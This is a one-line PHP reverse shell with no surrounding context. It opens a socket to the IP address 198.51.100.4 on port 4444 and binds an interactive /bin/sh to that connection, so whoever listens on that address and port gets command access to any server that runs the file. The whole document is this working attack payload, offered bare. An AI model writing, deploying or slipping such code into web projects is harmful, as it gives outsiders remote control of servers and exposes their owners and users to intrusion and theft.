<?php $sock=fsockopen("198.51.100.4",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>
